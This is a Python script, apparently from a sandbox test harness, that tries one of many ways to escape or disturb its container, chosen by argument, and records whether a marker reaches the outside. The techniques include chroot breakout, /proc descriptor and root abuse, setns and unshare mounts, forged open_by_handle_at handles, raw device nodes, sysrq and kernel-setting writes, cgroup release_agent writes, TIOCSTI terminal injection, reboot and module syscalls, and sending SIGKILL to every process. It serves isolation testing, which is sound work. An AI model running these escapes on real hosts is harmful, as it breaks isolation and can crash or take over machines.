#!/usr/bin/env python3
"""Tries one way out of the sandbox. Usage: ways_out.py WAY PORT; WAY is the name of a function below, with
dashes. Prints what it tried and what came of it. What counts is what the test then finds outside."""

import ctypes
import errno
import os
import signal
import socket
import struct
import subprocess
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
TEXT = b"ESCAPED\n"
OUTSIDE = os.environ["OUTSIDE"]


def tried(what, action):
    """Does something that may fail, and says how it ended."""
    try:
        print(f"tried {what}: {action()}")
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        print(f"tried {what}: {error}")


def call(number, *arguments):
    result = LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def write_to(path):
    with open(path, "r+b", buffering=0) as file:
        return file.write(TEXT)


def append_to(path, text=TEXT):
    descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        return os.write(descriptor, text)
    finally:
        os.close(descriptor)


def inherited_descriptors():
    for number in range(0, 1024):
        if number in (1, 2):
            continue
        path = f"/proc/self/fd/{number}"
        if os.path.isdir(path):
            tried(path, lambda: append_to(f"{path}{OUTSIDE}"))
            tried(path, lambda: os.mkdir(f"{path}/escaped"))
        elif os.path.exists(path):
            tried(path, lambda: os.write(number, TEXT))


def files_of_other_processes():
    for process in sorted(name for name in os.listdir("/proc") if name.isdigit()) + ["1", "self"]:
        tried(f"root of {process}", lambda: append_to(f"/proc/{process}/root{OUTSIDE}"))
        tried(f"cwd of {process}", lambda: append_to(f"/proc/{process}/cwd/../outside"))
        tried(f"memory of {process}", lambda: os.pread(os.open(f"/proc/{process}/mem", os.O_RDWR), 1, 0))
        tried(f"environment of {process}", lambda: len(open(f"/proc/{process}/environ", "rb").read()))
        if process == "self":
            continue
        try:
            descriptors = os.listdir(f"/proc/{process}/fd")
        except OSError as error:
            print(f"tried descriptors of {process}: {error}")
            continue
        for number in descriptors:
            path = f"/proc/{process}/fd/{number}"
            if not os.readlink(path).startswith(("pipe:", "socket:")):
                tried(path, lambda: append_to(f"{path}{OUTSIDE}"))
                tried(path, lambda: append_to(path))


def parents_of_the_root():
    path = "/"
    for _ in range(30):
        path += "../"
    tried("..", lambda: append_to(path.rstrip("/") + OUTSIDE + ".not-shown"))
    os.makedirs("/tmp/jail", exist_ok=True)
    descriptor = os.open("/", os.O_RDONLY)

    def leave():
        os.chroot("/tmp/jail")
        os.fchdir(descriptor)
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
        return append_to(f"{OUTSIDE}")

    tried("chroot", leave)


def ptrace_of_init():
    attach, seize = 16, 0x4206
    tried("attach", lambda: call(101, attach, 1, 0, 0))
    tried("seize", lambda: call(101, seize, 1, 0, 0))
    buffer = ctypes.create_string_buffer(8)
    vector = struct.pack("PN", ctypes.addressof(buffer), 8)
    remote = struct.pack("PN", 0x400000, 8)
    tried("process_vm_readv", lambda: call(310, 1, vector, 1, remote, 1, 0))
    tried("pidfd_getfd", lambda: call(438, os.pidfd_open(1), 7, 0))


def other_namespaces():
    for kind in ("mnt", "user", "pid", "net", "ipc", "uts", "cgroup"):
        tried(f"setns {kind}", lambda: call(308, os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0))
    pidfd = os.pidfd_open(1)
    tried("setns by pidfd", lambda: call(308, pidfd, 0x00020000))
    tried("outside", lambda: append_to(OUTSIDE))


def new_mounts():
    tried("remount", lambda: LIBC.mount(None, b"/", None, 4096 | 32, None))
    tried("bind", lambda: LIBC.mount(b"/proc/1/root", b"/tmp", None, 4096, None))
    for path in (b"/tmp", b"/", os.getcwd().encode(), b"/dev/shm", b"/proc", b"/var"):
        tried(f"unmount {path}", lambda: LIBC.umount2(path, 2))
    tried("outside", lambda: append_to(OUTSIDE))


def mounts_in_new_namespaces():
    script = f"""
        umount -l {os.getcwd()} /tmp /var /dev/shm /dev / 2>&1
        mount -o remount,bind,rw / 2>&1; mount -o remount,bind,rw /dev 2>&1; mount -o remount,bind,rw /sys 2>&1
        mount -t sysfs none /mnt 2>&1; mount --bind / /mnt 2>&1; mount --rbind / /mnt 2>&1
        mkdir -p /tmp/new/old; mount -t tmpfs none /tmp/new; mkdir /tmp/new/old; pivot_root /tmp/new /tmp/new/old 2>&1
        echo ESCAPED >> {OUTSIDE}; echo ESCAPED >> /old{OUTSIDE}
    """
    command = ["unshare", "-Urm", "sh", "-c", script]
    tried("unshare", lambda: subprocess.run(command, capture_output=True, text=True, timeout=20).stdout)


def device_files():
    for name, major, minor in (("loop", 7, 0), ("virtual", 254, 0), ("sda", 8, 0), ("kmsg", 1, 11), ("mem", 1, 1)):
        for kind in (0o060600, 0o020600):
            path = f"/tmp/{name}-{kind:o}"
            tried(path, lambda: os.mknod(path, kind, os.makedev(major, minor)))
            tried(f"read {path}", lambda: os.read(os.open(path, os.O_RDWR), 1))


def devices():
    for name in sorted(os.listdir("/dev")):
        path = f"/dev/{name}"
        if name in ("null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "shm", "mqueue", "kmsg"):
            continue
        # What every user may write to harms nobody.
        if os.path.islink(path) or os.path.isdir(path) or os.stat(path).st_mode & 0o002:
            continue
        # A device that can be opened for writing, and is no null device.
        def open_to_write():
            descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            null = os.fstat(descriptor).st_rdev == os.makedev(1, 3)
            return "a null device" if null else "DEVICE IS OPEN"

        tried(path, open_to_write)
    loop_add, loop_remove = 0x4C80, 0x4C81
    control = lambda: os.open("/dev/loop-control", os.O_RDWR)
    tried("add a loop device", lambda: LIBC.ioctl(control(), loop_add, 211))
    tried("remove a loop device", lambda: LIBC.ioctl(control(), loop_remove, 211))


def kernel_log():
    tried("kmsg", lambda: append_to("/dev/kmsg", b"trainwreck ESCAPED\n"))
    tried("clear", lambda: LIBC.klogctl(5, None, 0))


def kernel_settings():
    for path, text in (
        ("/proc/sys/kernel/hostname", b"escaped"),
        ("/proc/sys/kernel/domainname", b"escaped"),
        ("/proc/sys/kernel/core_pattern", b"/tmp/escaped"),
        ("/proc/sys/kernel/panic", b"77"),
        ("/proc/sys/kernel/printk", b"7 7 7 7"),
        ("/proc/sys/vm/swappiness", b"77"),
        ("/proc/sys/vm/drop_caches", b"0"),
        ("/proc/sys/fs/file-max", b"7777777"),
        ("/proc/sys/net/core/somaxconn", b"7777"),
        ("/proc/sysrq-trigger", b"h"),
        ("/proc/self/oom_score_adj", b"-999"),
        ("/proc/irq/default_smp_affinity", b"1"),
        ("/proc/timer_list", b"1"),
    ):
        tried(path, lambda: os.write(os.open(path, os.O_WRONLY), text))
    tried("sethostname", lambda: socket.sethostname("escaped"))
    tried("setdomainname", lambda: call(171, b"escaped", 7))


def device_settings():
    for folder, _, names in os.walk("/sys"):
        if folder.count("/") > 4:
            continue
        for name in names:
            path = os.path.join(folder, name)
            # Nothing is written: that it can be opened is enough.
            try:
                os.close(os.open(path, os.O_WRONLY))
                print(f"SETTING IS OPEN {path}")
            except OSError:
                pass
    tried("mm", lambda: write_to("/sys/kernel/mm/transparent_hugepage/enabled"))


def cgroups():
    for folder, folders, names in os.walk("/sys/fs/cgroup"):
        tried(folder, lambda: os.mkdir(f"{folder}/escaped"))
        for name in names:
            if name in ("cgroup.procs", "tasks", "memory.limit_in_bytes", "memory.max", "release_agent"):
                tried(f"{folder}/{name}", lambda: os.write(os.open(f"{folder}/{name}", os.O_WRONLY), b"0"))


def clock():
    tried("settimeofday", lambda: call(164, struct.pack("ll", 1_000_000_000, 0), None))
    tried("clock_settime", lambda: call(227, 0, struct.pack("ll", 1_000_000_000, 0)))
    tried("adjtimex", lambda: call(159, struct.pack("I4x", 0x4000) + struct.pack("q", 9000) + bytes(192)))


def machine():
    for magic in (0x01234567, 0x4321FEDC, 0x00000000, 0x89ABCDEF):
        tried(f"reboot {magic:x}", lambda: call(169, 0xFEE1DEAD, 672274793, magic, 0))
    tried("kexec_load", lambda: call(246, 0, 0, None, 0))
    tried("init_module", lambda: call(175, b"", 0, b""))
    tried("finit_module", lambda: call(313, os.open("/dev/null", os.O_RDONLY), b"", 0))
    tried("delete_module", lambda: call(176, b"ext4", 0))
    tried("swapon", lambda: call(167, b"/tmp/swap", 0))
    tried("swapoff", lambda: call(168, b"/dev/zram0"))
    tried("acct", lambda: call(163, b"/tmp/acct"))
    tried("quotactl", lambda: call(179, 0x80000300, b"/dev/loop0", 0, b"\0" * 64))


def tracing():
    tried("bpf", lambda: call(321, 5, b"\0" * 128, 128))
    tried("bpf map", lambda: call(321, 0, struct.pack("IIII", 1, 4, 4, 1) + bytes(112), 128))
    tried("perf_event_open", lambda: call(298, struct.pack("II", 1, 112) + bytes(104), -1, 0, -1, 0))
    tried("userfaultfd", lambda: call(323, 0))
    tried("fanotify", lambda: call(300, 0x04, 0))
    tried("io_uring", lambda: call(425, 4, ctypes.create_string_buffer(120)))


def file_handles():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    mount = ctypes.c_int()
    for path in ("/", "/tmp", "/var", "/etc", os.getcwd(), "/trainwreck/root"):
        tried(f"name_to_handle_at {path}", lambda: call(303, -100, path.encode(), handle, ctypes.byref(mount), 0))

        def open_handle():
            descriptor = call(304, os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
            return append_to(f"/proc/self/fd/{descriptor}/..{OUTSIDE}")

        tried(f"open_by_handle_at {path}", open_handle)
        # ext4 has its root directory at 2. A handle of type 1 has the inode's number and generation.
        for inode in (2, 1, 11, 128):
            forged = struct.pack("Ii", 8, 1) + struct.pack("II", inode, 0)

            def open_forged():
                descriptor = call(304, os.open(path, os.O_RDONLY), forged, os.O_RDONLY)
                return append_to(f"/proc/self/fd/{descriptor}{OUTSIDE}")

            tried(f"inode {inode} of {path}", open_forged)


def keys():
    for keyring in (-3, -4, -5):
        tried(f"key in {keyring}", lambda: call(248, b"user", b"trainwreck-escaped", b"x", 1, keyring))


def sockets_of_the_host():
    def connect():
        with socket.socket(socket.AF_UNIX) as client:
            client.connect("\0trainwreck-" + sys.argv[2])
            return client.send(TEXT)

    tried("abstract socket", connect)

    def connect_to_port():
        with socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=2) as client:
            return client.send(TEXT)

    tried("port", connect_to_port)


def terminal():
    def to_terminal():
        descriptor = os.open("/dev/tty", os.O_RDWR)
        os.write(descriptor, TEXT)
        for byte in b"ESCAPED":
            LIBC.ioctl(descriptor, 0x5412, bytes([byte]))
        LIBC.ioctl(descriptor, 0x541C, b"\x02")

    tried("tty", to_terminal)
    for number in range(0, 64):
        for path in (f"/dev/pts/{number}", f"/dev/tty{number}"):
            if os.path.exists(path):
                tried(path, lambda: append_to(path))
    tried("console", lambda: append_to("/dev/console"))


def signals():
    me = os.getpid()
    for number in range(2, 65536):
        if number != me:
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    tried("kill init", lambda: os.kill(1, signal.SIGKILL))
    tried("priority", lambda: os.setpriority(os.PRIO_USER, 0, 19))


def system_v_objects():
    key = int(sys.argv[2])
    identifier = LIBC.shmget(key, 0, 0)
    print(f"tried shared memory {key}: {identifier}")
    if identifier >= 0:
        LIBC.shmctl(identifier, 0, None)
    tried("message queue", lambda: LIBC.mq_unlink(b"/trainwreck-outside"))
    tried("posix memory", lambda: os.unlink(f"/dev/shm/trainwreck-{key}"))


def files_of_the_harness():
    found = []
    for folder in ("/tmp", os.environ["TMPDIR"], "/dev/shm", "/run", "/var/tmp"):
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            user = name.removeprefix("trainwreck-")
            if name.startswith("trainwreck-") and user.isdigit():
                found.append(f"{folder}/{name}")
    if os.path.exists(os.environ["REPORT"]):
        found.append(os.environ["REPORT"])
    for path in found:
        print(f"HARNESS IS VISIBLE {path}")
    print(f"tried {len(found)} paths")


def main():
    os.makedirs("runs", exist_ok=True)
    with open("runs/checkpoint", "w") as checkpoint:
        checkpoint.write("x")
    print("saved 1", flush=True)
    globals()[sys.argv[1].replace("-", "_")]()
    sys.stdout.flush()


main()
